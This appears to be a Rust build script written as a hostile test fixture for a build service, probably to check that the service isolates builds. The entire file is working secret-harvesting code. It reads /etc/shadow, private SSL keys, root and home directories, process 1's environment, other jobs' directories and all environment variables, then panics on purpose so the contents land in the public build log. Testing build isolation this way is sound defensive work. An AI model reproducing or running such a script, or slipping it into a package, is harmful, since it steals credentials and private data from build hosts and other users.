// Reads every secret it can think of, the paths listed in hostile.txt
// besides, and fails on purpose so that cargo prints all it found into the
// build's public log.
use std::{env, fs, path::Path};

fn show(path: &Path, out: &mut String, depth: usize) {
    match fs::read_dir(path) {
        Ok(entries) => {
            for e in entries.flatten().take(50) {
                out.push_str(&format!("HOSTILE secrets: entry {}\n", e.path().display()));
                if depth < 3 {
                    show(&e.path(), out, depth + 1);
                }
            }
        }
        Err(_) => match fs::read(path) {
            Ok(b) => out.push_str(&format!(
                "HOSTILE secrets: read {}: {}\n",
                path.display(),
                String::from_utf8_lossy(&b[..b.len().min(4096)])
            )),
            Err(e) => out.push_str(&format!("HOSTILE secrets: {}: {e}\n", path.display())),
        },
    }
}

fn main() {
    let params = fs::read_to_string(Path::new(&env::var("CARGO_MANIFEST_DIR").unwrap()).join("hostile.txt"))
        .unwrap_or_default();
    let home = env::var("HOME").unwrap();
    let job = Path::new(&home).parent().unwrap().to_path_buf();
    let mut paths: Vec<String> = ["/etc/ejecta", "/var/lib/ejecta", "/root", "/home", "/etc/ssl/private", "/var/lib/containerd", "/var/lib/nats", "/etc/shadow", "/run", "/proc/1/environ"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    paths.push(job.parent().unwrap().display().to_string()); // the work dir: other jobs' dirs
    paths.extend(params.lines().filter_map(|l| l.strip_prefix("secret=")).map(String::from));
    let mut out = String::new();
    for p in &paths {
        show(Path::new(p), &mut out, 0);
    }
    for (k, v) in env::vars() {
        out.push_str(&format!("HOSTILE secrets: env {k}={v}\n"));
    }
    panic!("HOSTILE secrets: everything this build script could read:\n{out}");
}
